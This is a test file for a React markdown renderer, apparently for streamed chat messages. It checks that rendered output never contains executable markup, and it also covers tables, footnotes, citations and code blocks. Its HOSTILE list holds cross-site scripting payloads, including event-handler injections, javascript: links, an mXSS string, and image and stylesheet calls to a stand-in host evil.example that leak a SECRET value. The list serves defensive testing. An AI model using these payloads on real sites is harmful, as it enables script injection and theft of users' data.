import { render, screen } from '@testing-library/react';
import RenderedMarkdown from './rendered-markdown';
import { FakeTheme } from '../../components/layout/fake-theme';

const page = (text: string, streaming: boolean) => (
  <FakeTheme>
    <div data-testid="message">
      <RenderedMarkdown text={text} streaming={streaming} scope="m1" />
    </div>
  </FakeTheme>
);

const show = (text: string, streaming = false) => render(page(text, streaming));

const message = () => screen.getByTestId('message');

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1">',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)>',
  '[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c][ref]\n\n[ref]: javascript:alert(1)',
  '![" onerror="x](x) ![x](https://evil.example/?q=SECRET) ![y][img]\n\n[img]: https://evil.example/y',
  'Note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '```js" onload="alert(1)\n<script>alert(1)</script>\n```',
  '<!-- <img src=https://evil.example/> -->',
  '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example>',
];

function expectSafe() {
  const root = message();
  expect(root.querySelector('script, iframe, svg[onload], style, link, object, embed, form')).toBeNull();
  for (const element of root.querySelectorAll('*')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^srcdoc$|^srcset$/);
  }
  for (const image of root.querySelectorAll('img'))
    expect(image.getAttribute('src')).toMatch(/^(\/api\/files\/|data:image)/);
  for (const link of root.querySelectorAll('a')) {
    const href = link.getAttribute('href') ?? '';
    expect(href).toMatch(/^(https?:|mailto:|#)/);
    if (!href.startsWith('#')) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
  }
}

test.each(HOSTILE)('renders nothing executable: %s (XSS-1, XSS-3, XSS-4)', (text) => {
  show(text);
  expectSafe();
});

test.each(HOSTILE)('renders nothing executable at any moment of streaming: %s (XSS-2)', (text) => {
  const view = show('', true);
  for (let length = 1; length <= text.length; length += 1) {
    view.rerender(page(text.slice(0, length), true));
    expectSafe();
  }
});

test('raw HTML is shown as text', () => {
  show('a <blink>bold</blink> move of List<String>, <b>, </sub> and <q id="x">u</q>');
  expect(message().textContent).toBe('a <blink>bold</blink> move of List<String>, <b>, </sub> and <q id="x">u</q>');
});

test.each(['<br>', '<br/>', '<br />', '<BR>'])('%s breaks the line in text and in cells', (tag) => {
  show(`one${tag}two\n\n| a |\n|---|\n| 1${tag}2 |`);
  expect(message().querySelectorAll('p > br, td > br')).toHaveLength(2);
  expect(message().textContent).not.toContain('<');
});

test('a line break keeps the text around it and stays text in code', () => {
  show('<br>\nnext <b>\n\n`<br>` and <br onload="alert(1)">');
  expectSafe();
  expect(message().textContent).toContain('next <b>');
  expect(message().querySelector('code')?.textContent).toBe('<br>');
  expect(message().textContent).toContain('<br onload="alert(1)">');
});

test('a link finds its definition in another block', () => {
  show('See [the docs][ref].\n\nMore.\n\n[ref]: https://example.org/docs');
  expect(screen.getByText('the docs').getAttribute('href')).toBe('https://example.org/docs');
});

test('neighbouring citations of two and of four digits are two links', () => {
  show('It holds.[12][1005]\n\n[12]: <https://one.example/>\n[1005]: <https://two.example/>');
  const links = [...message().querySelectorAll('a.citation')];
  expect(links.map((link) => link.textContent)).toEqual(['12', '1005']);
});

test('a footnote is shown at the end of the whole text', () => {
  show('First[^a].\n\nSecond.\n\n[^a]: The note.');
  expect(message().querySelector('.footnotes')?.textContent).toContain('The note.');
  expect(message().querySelector('sup a')?.getAttribute('href')).toMatch(/^#m1-/);
});

test('an open bold word is bold before its closing asterisks', () => {
  show('This is **impor', true);
  expect(message().querySelector('strong')?.textContent).toBe('impor');
});

test('renders tables, task lists and code', () => {
  show('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```');
  expect(message().querySelectorAll('td')).toHaveLength(2);
  expect(screen.getByRole('checkbox', { name: 'Done' })).toHaveProperty('checked', true);
  expect(screen.getByLabelText('Code in TypeScript').textContent).toBe('const a = 1;');
  expect(screen.getByRole('button', { name: 'Copy code' })).toBeDefined();
});

test('a growing code block changes only its last group of lines', () => {
  const code = Array.from({ length: 100 }, (_, line) => `line ${line}\n`).join('');
  const view = show(`\`\`\`\n${code}la`, true);
  const before = [...message().querySelectorAll('.code-lines')].map((lines) => lines.textContent);
  const first = message().querySelector('.code-lines')?.firstChild;
  view.rerender(page(`\`\`\`\n${code}last`, true));
  const after = [...message().querySelectorAll('.code-lines')].map((lines) => lines.textContent);
  expect(after.slice(0, -1)).toEqual(before.slice(0, -1));
  expect(message().querySelector('.code-lines')?.firstChild).toBe(first);
  expect(screen.getByLabelText('Code').textContent).toBe(`${code}last`);
});

test('deep nesting is shown as text', () => {
  show(`${'> '.repeat(10_000)}deep`);
  expect(message().textContent).toContain('deep');
});
